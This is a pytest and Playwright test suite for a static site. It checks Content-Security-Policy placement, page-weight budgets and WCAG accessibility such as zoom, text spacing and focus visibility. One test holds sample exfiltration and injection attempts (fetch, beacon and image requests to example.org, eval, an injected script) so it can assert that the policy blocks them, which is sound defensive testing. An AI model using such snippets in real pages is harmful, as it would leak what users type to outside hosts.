"""The shell of every page: what it may load, what it weighs, and that it bends to how people read."""

from __future__ import annotations

import gzip
import re
from pathlib import Path

import pytest
from accessible import violations
from looks import KINDS, SCHEMES, Opener, too_wide
from playwright.sync_api import Browser, expect

from alongside.render.web.assets.styles import SHEETS

KIB = 1024
SPACED = """
* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important; }
p { margin-bottom: 2em !important; }
"""


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_every_page_has_the_policy_before_anything_else_and_nothing_inline(site: Path) -> None:
    found = {}
    for page in pages(site):
        html = page.read_text("utf-8")
        head = re.sub(r"\s+", " ", html.partition("<head>")[2])[:200]
        assert re.match(r' <meta charset="utf-8"> <meta http-equiv="Content-Security-Policy"', head), page
        inline = re.findall(r"<script(?![^>]* src=)[^>]*>|<style[^>]*>|<[^>]+ style=[^>]*>|<[^>]+ on\w+=\"[^>]*>", html)
        if inline:
            found[page.relative_to(site).as_posix()] = inline[:3]
    assert found == {}


def test_nothing_of_another_making_is_left_in_the_site(site: Path) -> None:
    assert [folder.name for folder in (site / "assets").iterdir()] == ["alongside"]
    names = {file.name for file in (site / "assets" / "alongside").glob("*.css")}
    assert names == {f"{name}.css" for name in SHEETS}


def test_what_is_typed_cannot_leave_the_page(site_address: str, browser: Browser) -> None:
    """The policy itself forbids it, whatever a script tries."""
    context = browser.new_context()
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.goto(site_address + KINDS["exercise"])
    tried = page.evaluate(
        """async () => {
            const ways = {
                fetch: () => fetch("/?words"),
                elsewhere: () => fetch("https://example.org/?words"),
                beacon: () => { if (!navigator.sendBeacon("/?words")) throw new Error("refused"); },
                picture: () => new Promise((good, bad) => Object.assign(new Image(),
                    { onload: good, onerror: bad, src: "https://example.org/?words" })),
                code: () => (0, eval)("1"),
                inline: () => new Promise((good, bad) => {
                    const it = document.createElement("script");
                    it.textContent = "window.ran = true";
                    document.body.append(it);
                    (window.ran ? good : bad)(new Error("did not run"));
                }),
            };
            const went = [];
            for (const [name, way] of Object.entries(ways)) {
                try { await way(); went.push(name); } catch { /* as it should be */ }
            }
            return went;
        }"""
    )
    # A beacon says yes before the policy is looked at; what counts is that nothing went out.
    assert [way for way in tried if way != "beacon"] == []
    assert [url for url in answered if "words" in url] == []
    context.close()


def first_visit(page: Path, site: Path) -> float:
    """Return what a first visit loads by itself, in KiB, as gzip -9 packs it."""
    html = page.read_text("utf-8")
    linked = re.findall(r'<(?:link rel="stylesheet"|script) [^>]*?(?:href|src)="([^"?]+)', html)
    files = [page, *{(site / link[1:] if link.startswith("/") else page.parent / link).resolve() for link in linked}]
    found = (file for file in files if file.exists())  # the page for a lost address looks at several heights
    return sum(len(gzip.compress(file.read_bytes(), 9)) for file in found) / KIB


def test_no_page_is_heavier_than_promised(site: Path) -> None:
    """30 KiB for a page to read, 40 for one with something to fill in, 52 for a tool; the guide's are for a desk."""
    heavy = {}
    for page in pages(site):
        name = page.relative_to(site).as_posix()
        if name.startswith("facilitator/"):
            continue
        html = page.read_text("utf-8")
        promise = (
            52
            if "/tool-" in html and "<al-tool" in html
            else 40
            if "/answers.js" in html or "/hand-in.js" in html or "<al-workbook" in html
            else 30
        )
        if (weight := first_visit(page, site)) > promise:
            heavy[name] = round(weight, 1)
    assert heavy == {}


@pytest.mark.sweep
@pytest.mark.parametrize("kind", KINDS)
def test_at_four_hundred_per_cent_nothing_scrolls_sideways(site_address: str, open_page: Opener, kind: str) -> None:
    page = open_page(site_address + KINDS[kind], "zoomed")
    assert too_wide(page) <= 0


@pytest.mark.sweep
@pytest.mark.parametrize("kind", KINDS)
def test_wider_spacing_of_the_readers_own_clips_nothing(site_address: str, open_page: Opener, kind: str) -> None:
    """WCAG 1.4.12."""
    page = open_page(site_address + KINDS[kind], "phone", bypass_csp=True)
    page.add_style_tag(content=SPACED)
    assert too_wide(page) <= 0
    clipped = page.evaluate(
        """() => [...document.querySelectorAll("a, button, label, h1, h2, h3, p, li, th, td, summary")].filter((it) => {
            const look = getComputedStyle(it);
            return it.checkVisibility() && it.clientWidth > 1 && look.overflow !== "visible"
                && it.scrollHeight > it.clientHeight + 2;
        }).map((it) => it.outerHTML.slice(0, 120))"""
    )
    assert clipped == []


@pytest.mark.sweep
@pytest.mark.parametrize("kind", ["home", "step", "exercise", "my workbook"])
def test_in_forced_colours_focus_and_fields_can_be_seen(site_address: str, open_page: Opener, kind: str) -> None:
    page = open_page(site_address + KINDS[kind], forced_colors="active")
    assert violations(page) == []
    for _ in range(12):
        page.keyboard.press("Tab")
        outline = page.evaluate(
            """() => {
                const it = document.activeElement, look = getComputedStyle(it);
                const seen = look.outlineStyle !== "none" ? look : getComputedStyle(it.nextElementSibling ?? it);
                return [seen.outlineStyle, parseFloat(seen.outlineWidth)];
            }"""
        )
        assert outline[0] != "none" and outline[1] >= 2
    bare = page.evaluate(
        """() => [...document.querySelectorAll("textarea, input[type=text], input[type=date]")]
            .filter((it) => it.checkVisibility() && parseFloat(getComputedStyle(it).borderBottomWidth) < 1)
            .map((it) => it.name)"""
    )
    assert bare == []


@pytest.mark.parametrize("kind", ["home", "step", "exercise"])
def test_the_first_stop_of_the_keyboard_leads_past_the_menus(site_address: str, open_page: Opener, kind: str) -> None:
    page = open_page(site_address + KINDS[kind])
    page.keyboard.press("Tab")
    skip = page.locator(".md-skip")
    expect(skip).to_be_focused()
    expect(skip).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.locator("main")).to_be_focused()
    page.keyboard.press("Tab")
    assert page.evaluate("document.querySelector('main').contains(document.activeElement)")


def test_on_this_page_marks_the_part_that_is_read(site_address: str, open_page: Opener) -> None:
    page = open_page(site_address + KINDS["step"])
    last = page.locator(".md-nav--secondary a").last
    page.evaluate("document.documentElement.scrollTo({top: 1e6, behavior: 'instant'})")
    expect(page.locator(".md-nav--secondary a[aria-current]")).to_have_count(1)
    first = page.locator(".md-nav--secondary a").first
    page.evaluate("document.documentElement.scrollTo({top: 0, behavior: 'instant'})")
    expect(last).not_to_have_attribute("aria-current", "true")
    last.click()
    expect(first).not_to_have_attribute("aria-current", "true")


@pytest.mark.campaign
@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("size", ["phone", "desktop"])
def test_every_page_in_every_look_is_accessible(
    site: Path, site_address: str, open_page: Opener, size: str, scheme: str
) -> None:
    """The full product of pages and looks; `make campaign`."""
    found = {}
    for file in pages(site):
        address = file.relative_to(site).as_posix().removesuffix("index.html")
        page = open_page(f"{site_address}/{address}", size, scheme)
        if wrong := [*violations(page), *(["scrolls sideways"] if too_wide(page) > 0 else [])]:
            found[address] = wrong
        page.context.close()
    assert found == {}
